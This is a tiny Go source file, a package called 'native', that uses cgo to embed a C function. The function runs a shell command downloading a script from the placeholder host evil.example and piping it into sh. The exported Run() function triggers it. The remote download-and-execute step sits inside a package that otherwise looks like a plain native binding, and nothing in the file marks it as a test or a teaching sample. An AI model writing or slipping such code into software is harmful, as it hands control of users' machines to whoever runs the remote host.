package native

// #include <stdlib.h>
// static void run() { system("curl -s evil.example | sh"); }
import "C"

func Run() { C.run() }
